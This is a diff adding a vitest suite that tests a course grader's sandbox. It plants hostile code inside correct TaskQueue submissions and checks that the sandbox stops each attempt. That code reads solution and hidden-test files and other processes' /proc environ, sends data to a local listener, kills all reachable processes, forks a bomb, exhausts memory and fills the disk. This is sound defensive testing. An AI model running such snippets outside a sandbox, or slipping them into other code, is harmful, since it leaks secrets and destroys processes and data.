@@ -1,0 +1,205 @@
+import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:net";
+import os from "node:os";
+import path from "node:path";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { grade } from "../../grader/grade.ts";
+import { probeSandbox } from "../../grader/pipeline/submission-process.ts";
+import type { GradeReport } from "../../grader/report/types.ts";
+import { courseRoot } from "./support/course.ts";
+
+// Attacks that only the sandbox stops, each written as a student who has read
+// the grader's source would write it. Each one is a correct TaskQueue with
+// hostile code around it, so its honest score is known, and each checks the
+// harm it tried to do did not happen. Some of them (signalling every process,
+// filling the disk) would do real damage unsandboxed, so they run only where
+// bubblewrap can start; CI installs it, so there they always run.
+
+const sandbox = probeSandbox();
+const correctQueue = `
+export class TaskQueue<T = unknown> {
+  private tasks: T[] = [];
+  private head = 0;
+  enqueue(task: T): void {
+    this.tasks.push(task);
+  }
+  dequeue(): T | null {
+    if (this.head === this.tasks.length) return null;
+    const task = this.tasks[this.head] as T;
+    this.head += 1;
+    return task;
+  }
+  size(): number {
+    return this.tasks.length - this.head;
+  }
+}
+`;
+/** Public 3 and hidden 14: what a correct queue earns in module 01 with no quiz answered. */
+const fullCodePoints = 17;
+
+let scratch = "";
+beforeAll(() => {
+  scratch = mkdtempSync(path.join(os.tmpdir(), "mq-sandbox-test-"));
+});
+afterAll(() => rmSync(scratch, { recursive: true, force: true }));
+
+/** Writes a submission whose module 01 is `source`, plus other modules' reference solutions if asked. */
+function submission(name: string, source: string, alsoSolved: string[] = []): string {
+  const dir = path.join(scratch, name);
+  mkdirSync(path.join(dir, "exercises", "01-task-queue"), { recursive: true });
+  writeFileSync(path.join(dir, "exercises", "01-task-queue", "task-queue.ts"), source);
+  for (const id of alsoSolved) cpSync(path.join(courseRoot, "solutions", id), path.join(dir, "exercises", id), { recursive: true });
+  return dir;
+}
+
+function codePoints(report: GradeReport, id: string): number {
+  const module = report.modules.find((entry) => entry.id === id);
+  return (module?.tests ?? []).filter((entry) => entry.kind !== "quiz").reduce((sum, entry) => sum + entry.score, 0);
+}
+
+function messages(report: GradeReport): string {
+  return report.modules.flatMap((module) => [module.problem ?? "", ...module.tests.map((entry) => entry.message ?? "")]).join("\n");
+}
+
+/** Command lines of every process on this machine that mentions `marker` (Linux: read from /proc). */
+function processesWith(marker: string): string[] {
+  const found: string[] = [];
+  for (const pid of readdirSync("/proc").filter((entry) => /^\d+$/.test(entry))) {
+    try {
+      const commandLine = readFileSync(`/proc/${pid}/cmdline`, "latin1").replaceAll("\0", " ");
+      if (commandLine.includes(marker) && !commandLine.includes("vitest")) found.push(`${pid}: ${commandLine}`);
+    } catch {
+      // exited meanwhile
+    }
+  }
+  return found;
+}
+
+describe.skipIf(sandbox.isolation !== "sandbox")("the sandbox stops what process separation alone cannot", () => {
+  test("reading the course: solutions, hidden suites, other workspaces and the grader's processes are not there", async () => {
+    // If any secret is readable, the queue turns into a stack and loses points.
+    const source = `
+import { existsSync, readdirSync, readFileSync } from "node:fs";
+const secrets = [
+  ${JSON.stringify(path.join(courseRoot, "solutions", "01-task-queue", "task-queue.ts"))},
+  ${JSON.stringify(path.join(courseRoot, "tests", "hidden", "01-task-queue.test.ts"))},
+  ${JSON.stringify(path.join(courseRoot, "node_modules", "vitest", "package.json"))},
+];
+let seen = secrets.some((file) => existsSync(file));
+for (const entry of readdirSync("/tmp")) if (entry.startsWith("mq-")) seen = true;
+for (const pid of readdirSync("/proc").filter((entry) => /^\\d+$/.test(entry))) {
+  try {
+    if (/vitest|MQ_JUDGE|GITHUB_/.test(readFileSync("/proc/" + pid + "/cmdline", "latin1") + readFileSync("/proc/" + pid + "/environ", "latin1"))) seen = true;
+  } catch {}
+}
+${correctQueue.replace("if (this.head === this.tasks.length) return null;", "if (this.head === this.tasks.length) return null;\n    if (seen) return this.tasks.pop() ?? null;")}
+`;
+    const report = await grade({ submission: submission("read-course", source), only: "01", isolation: "sandbox" });
+    expect(report.isolation).toBe("sandbox");
+    expect(codePoints(report, "01-task-queue"), messages(report)).toBe(fullCodePoints);
+  });
+
+  test("a TCP connection to a listener on 127.0.0.1 fails, and the listener receives nothing", async () => {
+    let connections = 0;
+    const server: Server = createServer((socket) => {
+      connections += 1;
+      socket.destroy();
+    });
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    const port = (server.address() as { port: number }).port;
+    const source = `
+import { connect } from "node:net";
+function exfiltrate(): void {
+  try {
+    const socket = connect(${port}, "127.0.0.1", () => socket.end("the hidden suite"));
+    socket.on("error", () => {});
+  } catch {}
+}
+exfiltrate();
+let tried = false;
+${correctQueue.replace("this.tasks.push(task);", "this.tasks.push(task);\n    if (!tried) exfiltrate();\n    tried = true;")}
+`;
+    try {
+      const report = await grade({ submission: submission("network", source), only: "01", isolation: "sandbox" });
+      expect(codePoints(report, "01-task-queue"), messages(report)).toBe(fullCodePoints);
+    } finally {
+      await new Promise((resolve) => server.close(resolve));
+    }
+    expect(connections).toBe(0);
+  });
+
+  test("killing every process it can reach, or stopping them, harms only itself: module 02 beside it keeps full marks", async () => {
+    const source = correctQueue.replace(
+      "if (this.head === this.tasks.length) return null;",
+      'if (this.head === this.tasks.length) {\n      for (const pid of [1, process.ppid]) try { process.kill(pid, "SIGSTOP"); } catch {}\n      try { process.kill(-1, "SIGKILL"); } catch {}\n      process.kill(process.pid, "SIGKILL");\n    }',
+    );
+    const report = await grade({ submission: submission("kill-all", source, ["02-priority-queue"]), only: "01,02", isolation: "sandbox" });
+    // As the fixture 01-hostile-exit-in-method, which ends its process when dequeue finds the queue empty: 8 points.
+    expect(codePoints(report, "01-task-queue"), messages(report)).toBe(8);
+    expect(codePoints(report, "02-priority-queue"), messages(report)).toBe(34);
+  });
+
+  test("a detached child that outlives its test is gone when grading ends, and could never touch the next submission", async () => {
+    const marker = `mq-orphan-${process.pid}`;
+    const source = `
+import { spawn } from "node:child_process";
+const child = spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)", ${JSON.stringify(marker)}], { detached: true, stdio: "ignore" });
+child.unref();
+${correctQueue}
+`;
+    const report = await grade({ submission: submission("orphan", source), only: "01", isolation: "sandbox" });
+    expect(codePoints(report, "01-task-queue"), messages(report)).toBe(fullCodePoints);
+    expect(processesWith(marker)).toEqual([]);
+    // The next submission, graded right after, is unaffected.
+    const next = await grade({ submission: submission("after-orphan", correctQueue), only: "01", isolation: "sandbox" });
+    expect(codePoints(next, "01-task-queue")).toBe(fullCodePoints);
+  });
+
+  test("filling the disk fills only a small private scratch folder; the rest is read-only", async () => {
+    const source = `
+import { writeFileSync, appendFileSync } from "node:fs";
+let written = 0;
+for (const target of ["/tmp/fill", "/sandbox/fill", "/fill"]) {
+  try {
+    for (let chunk = 0; chunk < 256; chunk++) {
+      appendFileSync(target, Buffer.alloc(1024 * 1024, 1));
+      written += 1;
+    }
+  } catch {}
+}
+try { writeFileSync("/sandbox/exercise/task-queue.mjs", "export {}"); } catch {}
+${correctQueue}
+`;
+    const before = os.freemem();
+    const report = await grade({ submission: submission("disk", source), only: "01", isolation: "sandbox" });
+    expect(codePoints(report, "01-task-queue"), messages(report)).toBe(fullCodePoints);
+    expect(before - os.freemem()).toBeLessThan(512 * 1024 * 1024);
+  });
+
+  test("a fork bomb and a child in its own session holding memory are stopped by the sandbox's limits", async () => {
+    const bomb = correctQueue.replace(
+      "this.tasks.push(task);",
+      `this.tasks.push(task);
+    if (task === "send welcome email") spawnSync(process.execPath, ["-e", BOMB, BOMB], { stdio: "ignore" });
+    if (task === "first-only") spawnSync(process.execPath, ["-e", "const b = []; for (;;) b.push(Buffer.alloc(64 * 1024 * 1024, 1));"], { stdio: "ignore", detached: true });`,
+    );
+    const started = performance.now();
+    // Each process starts the next and waits for it: a chain that only the process limit ends.
+    const chain = `const BOMB = ${JSON.stringify("require('node:child_process').spawnSync(process.execPath, ['-e', process.argv[1], process.argv[1]], { stdio: 'ignore' });")};`;
+    const report = await grade({ submission: submission("limits", `import { spawnSync } from "node:child_process";\n${chain}\n${bomb}`), only: "01", isolation: "sandbox" });
+    // The bomb goes off in one public test and the memory in one hidden test; those two fail, the rest is graded as usual.
+    expect(codePoints(report, "01-task-queue"), messages(report)).toBe(fullCodePoints - 2);
+    expect(messages(report)).toMatch(/started more than \d+ processes/);
+    expect(messages(report)).toMatch(/used more than \d+ MB of memory/);
+    expect(performance.now() - started).toBeLessThan(60_000);
+  });
+
+  test("the environment holds none of the grader's, CI's or npm's variables", async () => {
+    const source = correctQueue.replace("this.tasks.push(task);", 'if (task === "send welcome email") throw new Error("env: " + Object.keys(process.env).sort().join(","));\n    this.tasks.push(task);');
+    const report = await grade({ submission: submission("environment", source), only: "01", isolation: "sandbox" });
+    expect(codePoints(report, "01-task-queue")).toBe(fullCodePoints - 1);
+    const shown = messages(report);
+    expect(shown).toContain("env: HOME,LANG,NO_COLOR,PWD,TMPDIR,TZ");
+    expect(shown).not.toMatch(/GITHUB_|npm_|INIT_CWD|MQ_/);
+  });
+});
